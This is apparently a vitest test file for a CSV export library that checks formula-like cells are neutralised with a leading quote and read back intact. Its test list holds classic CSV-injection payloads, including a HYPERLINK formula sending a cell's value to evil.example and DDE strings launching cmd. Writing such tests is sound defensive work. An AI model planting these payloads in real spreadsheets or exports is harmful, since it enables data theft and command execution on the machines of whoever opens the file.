import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { readSafeCsv, writeSafeCsv } from '../../src/csv/index.js';

const cellsOf = (csv: string) => (parse(csv, { columns: true }) as Record<string, string>[]).map((r) => r.text);

// OWASP's triggers, the full-width forms Apple Numbers folds to them, and classic payloads.
const DANGEROUS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '-5',
];

describe('writeSafeCsv', () => {
  it('starts every formula-like text cell with a single quote (OWASP CSV injection)', () => {
    const csv = writeSafeCsv(
      DANGEROUS.map((text) => ({ text })),
      ['text'],
    );
    expect(cellsOf(csv)).toEqual(DANGEROUS.map((t) => `'${t}`));
  });

  it('quotes cells holding separators, quotes and line breaks, after neutralising them', () => {
    const csv = writeSafeCsv([{ text: '=1,2 "x"\nnext' }], ['text']);
    expect(csv).toBe('text\n"\'=1,2 ""x""\nnext"\n');
  });

  it('keeps real numbers as numbers, negative ones too, and leaves harmless text alone', () => {
    const csv = writeSafeCsv([{ text: 'WO-123', value: -5, delta: -0.25, seq: 7 }], ['text', 'value', 'delta', 'seq']);
    expect(csv).toBe('text,value,delta,seq\nWO-123,-5,-0.25,7\n');
  });

  it('reads back exactly what it wrote, a text that starts with a quote too', () => {
    const texts = [...DANGEROUS, "'already quoted", "''two", "'=both", 'plain', '한글 =중간'];
    const rows = readSafeCsv(
      writeSafeCsv(
        texts.map((text) => ({ text })),
        ['text'],
      ),
    );
    // The neutralising quote also shields a leading tab or CR from the import's trimming.
    expect(rows.map((r) => r.text)).toEqual(texts);
  });
});
